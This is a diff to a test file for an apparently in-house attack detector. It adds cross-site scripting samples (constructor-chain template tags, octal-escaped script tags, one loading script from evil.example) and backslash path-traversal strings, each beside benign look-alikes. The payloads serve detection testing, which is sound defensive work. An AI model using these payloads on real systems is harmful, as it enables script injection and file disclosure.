@@ -1,9 +1,9 @@
 /**
  * XSS and path traversal, seventh round (docs/detection.md, "branch i18-xss7"): markup that
  * clobbers the DOM's own members by `id` or `name`, the Function constructor called as a template
- * tag, one `..` beside a backslash, a server-side script on a Windows share, and a Java
- * application's private folder (WEB-INF) beyond its `web.xml`. Each attack was
- * missed before this branch and each look-alike beside it stays quiet.
+ * tag, markup in JavaScript's octal escapes, one `..` beside a backslash, a server-side script on
+ * a Windows share, and a Java application's private folder (WEB-INF) beyond its `web.xml`. Each
+ * attack was missed before this branch and each look-alike beside it stays quiet.
  */
 import { AttackDetector } from '../../../node/analysis/attacks';
 import { RELAXED, namedExamples } from './helpers';
@@ -24,6 +24,14 @@ namedExamples(
     // The Function constructor reached through constructor chains, called as a tag.
     ['a constructor chain called as a tag', 'xss', 'q', "''.constructor.constructor`alert\\`1\\``()"],
     ['the same on an array, in JSON', 'xss', 'json', '[].constructor.constructor`top.open(name)```'],
+    // JavaScript's legacy octal escapes of markup, as a string written into the page.
+    ['a script element in octal escapes', 'xss', 'q', '\\74script\\76alert(1)\\74/script\\76'],
+    [
+      'a script source in three-digit octal escapes, in JSON',
+      'xss',
+      'json',
+      '\\074script src=//evil.example/x.js\\076\\074/script\\076',
+    ],
     // One `..` with a backslash on either side: a Windows path's climb, not a relative link.
     ['a backslash, dots and an encoded slash', 'ptrav', 'form', '/\\..%2f'],
     ['a backslash after the dots, mid-path', 'ptrav', 'json', 'uploads/..\\web.config.bak'],
@@ -46,6 +54,9 @@ namedExamples(
     // Constructor chains as text and ordinary tagged templates.
     ['a constructor property read', 'json', 'obj.constructor.name === "Object"'],
     ['a styled-components tag', 'json', 'const Title = styled.h1`font-size: 1.5em;`'],
+    // Octal-looking backslashes that spell no tag.
+    ['a Windows folder named with digits', 'q', 'C:\\74apps\\setup.exe'],
+    ['an escaped less-than in prose', 'json', 'price \\74 10 and \\76 5'],
     // Windows paths and relative links.
     ['a Windows document path', 'q', 'C:\\Users\\ana\\Documents\\report.docx'],
     ['a file name uploaded from Windows', 'json', 'D:\\Photos\\2024\\beach.jpg'],
